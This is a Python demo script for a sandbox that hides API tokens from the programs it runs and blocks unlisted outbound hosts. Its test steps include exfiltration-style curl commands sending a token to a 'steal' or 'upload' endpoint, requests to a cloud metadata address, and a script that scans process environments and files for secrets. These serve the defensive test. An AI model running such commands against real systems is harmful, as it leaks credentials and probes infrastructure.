#!/usr/bin/env python3
"""The steps of scripts/demo: each runs one sandbox, says what was seen on both sides, and checks it.

    scripts/demo_steps.py FOLDER-OF-THE-PROGRAMS
"""

import ctypes
import json
import os
import pathlib
import random
import secrets
import shutil
import string
import subprocess
import sys
import tempfile
import time

ROOT = pathlib.Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "tests" / "e2e"))

from harness.origin import Origin  # noqa: E402
from harness.pki import Authority  # noqa: E402
from harness.sandbox import descendants, mounts, poll  # noqa: E402

_PR_SET_CHILD_SUBREAPER = 36
_LETTERS = string.ascii_letters + string.digits

# Looks for the values in all that a program can read. It gets them disguised (each byte xor 0x55).
SEARCH = r"""
import os, sys
needles = [bytes(b ^ 0x55 for b in bytes.fromhex(h)) for h in sys.argv[1:]]
found, counts = [], {"variables": 0, "files": 0, "process files": 0}
def look(kind, path, text):
    counts[kind] += 1
    if any(n in text for n in needles):
        found.append(path)
for name, value in os.environb.items():
    look("variables", name.decode(), value)
for pid in filter(str.isdigit, os.listdir("/proc")):
    for what in ("environ", "cmdline", "maps", "mountinfo", "status"):
        try:
            look("process files", f"/proc/{pid}/{what}", open(f"/proc/{pid}/{what}", "rb").read())
        except OSError:
            pass
for top in os.listdir("/"):
    if top in ("proc", "sys", "usr", "lib", "lib64", "bin", "sbin", "lib32", "libx32"):
        continue
    for folder, _, files in os.walk("/" + top):
        for name in files:
            path = os.path.join(folder, name)
            try:
                if os.path.isfile(path) and os.path.getsize(path) < 1 << 24:
                    look("files", path, open(path, "rb").read())
            except OSError:
                pass
print("found in", found or "nothing", "of", ", ".join(f"{n} {k}" for k, n in counts.items()))
"""


class Demo:
    def __init__(self, programs):
        self.sandboxctl = str(pathlib.Path(programs).resolve() / "sandboxctl")
        self.api_token = "ghp_" + "".join(secrets.choice(_LETTERS) for _ in range(36))
        self.bot_token = "bot-" + "".join(secrets.choice(_LETTERS) for _ in range(28))
        self.folder = pathlib.Path(tempfile.mkdtemp(prefix="sallyport-demo-"))
        # Not in the build folder, which may be another user's.
        self.audit = self.folder / "audit.jsonl"
        names = ["api.example.test", "bot.example.test"]
        self.authority = Authority(self.folder / "pki", "Root of the demo")
        self.origin = Origin([("127.0.0.1", 0)], self.authority.issue("server", names), (0,))
        self.port = self.origin.ports[0]
        policy = (ROOT / "examples" / "first-light" / "policy.lua").read_text()
        self.policy = self.folder / "policy.lua"
        self.policy.write_text(policy.replace("127.0.0.1:8443", f"127.0.0.1:{self.port}"))
        self.failed = []
        self.count = 0
        self.read = 0

    def close(self):
        self.origin.close()
        shutil.rmtree(self.folder, ignore_errors=True)

    # Telling

    @staticmethod
    def say(label, text):
        for i, line in enumerate(text.strip().splitlines() or [""]):
            print(f"    {label if i == 0 else '':<22} {line}")

    def title(self, sentence):
        self.count += 1
        print(f"\n{self.count}. {sentence}")

    def check(self, good, sentence):
        print(f"    {'ok' if good else 'NOT AS IT MUST BE':<22} {sentence}")
        if not good:
            self.failed.append(f"{self.count}. {sentence}")

    def told(self):
        """The audit records since the last call."""
        lines = self.audit.read_text().splitlines() if self.audit.exists() else []
        new, self.read = lines[self.read:], len(lines)
        return [json.loads(line) for line in new]

    # Running

    def run(self, command, *arguments):
        """Runs COMMAND with sh in a sandbox, and tells what came out."""
        self.origin.forget()
        environment = {"PATH": os.environ["PATH"], "HOME": str(self.folder), "LANG": "C.UTF-8",
                       "API_TOKEN": self.api_token, "BOT_TOKEN": self.bot_token}
        # A resolver that does not exist: no step needs one, and none would be answered.
        argv = [self.sandboxctl, "run", "--verbose", "--resolver", "127.0.0.1:9",
                "--upstream-ca", str(self.authority.ca), "--audit", str(self.audit),
                "-f", str(self.policy), "--timeout", "60s", "--", "sh", "-c", command, *arguments]
        self.say("inside, the program", command if len(command) < 200 else command[:60] + " …")
        began = time.monotonic()
        done = subprocess.run(argv, env=environment, capture_output=True, check=False, text=True,
                              stdin=subprocess.DEVNULL, cwd="/", timeout=120)
        self.seconds = time.monotonic() - began
        facts = [line for line in done.stderr.splitlines() if "backend" in line]
        errors = "\n".join(line for line in done.stderr.splitlines() if line not in facts)
        self.say("the guest saw", (done.stdout + errors).strip() or f"exit code {done.returncode}")
        self.facts = facts[0] if facts else done.stderr
        return done

    def server_saw(self):
        requests = self.origin.requests
        if not requests:
            self.say("the server saw", "nothing")
        for request in requests:
            self.say("the server saw", f"{request.method} {request.path}, authorization: "
                                       f"{request.get('authorization')}")
        return [request.get("authorization") for request in requests]

    def refusal(self, reason):
        records = [r for r in self.told() if r.get("verdict") == "deny"]
        for r in records:
            where = r.get("name") or r.get("address") or ""
            self.say("the audit log says", f"deny {r.get('transport', '')} {where}:{r.get('port', '')} "
                                           f"{r['reason']}")
        self.check(any(r["reason"] == reason for r in records), f"refused, and logged as {reason}")
        self.check(not self.origin.requests, "the server received nothing")

    # The steps

    def swap(self):
        self.title("A token that the program never holds")
        self.say("the real token", self.api_token)
        done = self.run('echo "API_TOKEN=$API_TOKEN"; '
                        'curl -sS -H "Authorization: Bearer $API_TOKEN" -o /dev/null '
                        '-w "status %{http_code}\\n" https://api.example.test/whoami')
        print(f"    {'how it ran':<22} {self.facts.removeprefix('sandboxctl: ')}")
        saw = self.server_saw()
        self.told()
        self.check(self.api_token not in done.stdout and "API_TOKEN=ghp_" in done.stdout,
                   "the program's variable is a placeholder")
        self.check(saw == [f"Bearer {self.api_token}"], "the server received the real token")

    def inject(self):
        self.title("A token that the program does not even know of")
        done = self.run("env | grep -c BOT; curl -sS -o /dev/null -w 'status %{http_code}\\n' "
                        "https://bot.example.test/hello")
        saw = self.server_saw()
        self.told()
        self.check(done.stdout.splitlines()[:1] == ["0"], "nothing of it is inside")
        self.check(saw == [f"Bearer {self.bot_token}"], "the gate added the real token")

    def unlisted(self):
        self.title("A host that no rule names")
        done = self.run("curl -sS https://evil.example.com/upload")
        self.refusal("name_not_granted")
        self.check("how_to_allow" in done.stdout, "the program can read what happened and what would allow it")

    def wrong_host(self):
        self.title("The token towards a host that may not have it")
        done = self.run('curl -sS -H "X-Api-Key: $API_TOKEN" https://bot.example.test/steal')
        self.refusal("secret_wrong_host")
        self.check("api.example.test" in done.stdout, "the program reads which host may receive it")

    def address(self, what, address):
        self.title(what)
        done = self.run(f"curl -sS -m 20 http://{address}/ 2>&1; echo \"curl: exit code $?\"")
        self.refusal("not_granted")
        self.check("exit code 7" in done.stdout and self.seconds < 10, "refused at once, no hang")

    def search(self):
        self.title("A search for the tokens in everything that the program can read")
        disguised = [bytes(b ^ 0x55 for b in t.encode()).hex() for t in (self.api_token, self.bot_token)]
        done = self.run('curl -sS -H "Authorization: Bearer $API_TOKEN" https://api.example.test/hello '
                        '>/tmp/answer; exec /usr/bin/python3 -c "$0" "$@"', SEARCH, *disguised)
        self.server_saw()
        self.told()
        self.check("found in nothing" in done.stdout, "neither token is in any variable, file or process")
        log = self.audit.read_text()
        self.check(self.api_token not in log and self.bot_token not in log, "nor in the audit log")

    def nothing_left(self, processes, mounted, state):
        self.title("What is left of the sandboxes")
        def left():
            found = [f"process {n}" for p, n in descendants() if p not in processes]
            found += [f"mount {m}" for m in mounts() - mounted]
            return found + [f"file {f}" for f in state_files(self.folder) - state]
        poll(lambda: not left(), 10)
        self.check(not left(), f"no process, no mount, no file {left() or ''}".rstrip())


def state_files(home):
    folders = [home / ".local", pathlib.Path("/run/sallyport"), pathlib.Path("/var/lib/sallyport")]
    return {str(p) for folder in folders if folder.exists() for p in folder.rglob("*")}


def main():
    ctypes.CDLL(None).prctl(_PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0)  # No orphan escapes the last step.
    demo = Demo(sys.argv[1])
    print("A local HTTPS server stands for api.example.test and bot.example.test, "
          f"on 127.0.0.1:{demo.port}.\nThe policy is examples/first-light/policy.lua.")
    before = {p for p, _ in descendants()}, mounts(), state_files(demo.folder)
    kept = pathlib.Path(tempfile.gettempdir()) / f"sallyport-demo-audit-{random.randrange(1 << 32):08x}.jsonl"
    try:
        demo.swap()
        demo.inject()
        demo.unlisted()
        demo.wrong_host()
        demo.address("An address without a name", "1.1.1.1")
        demo.address("The cloud's metadata service", "169.254.169.254")
        demo.search()
        demo.nothing_left(*before)
        shutil.copy(demo.audit, kept)
    finally:
        demo.close()
    print(f"\nThe audit log of all of it: {kept}")
    if demo.failed:
        print("\nNot as it must be:\n  " + "\n  ".join(demo.failed))
        return 1
    print("Everything went as it must.")
    return 0


if __name__ == "__main__":
    sys.exit(main())
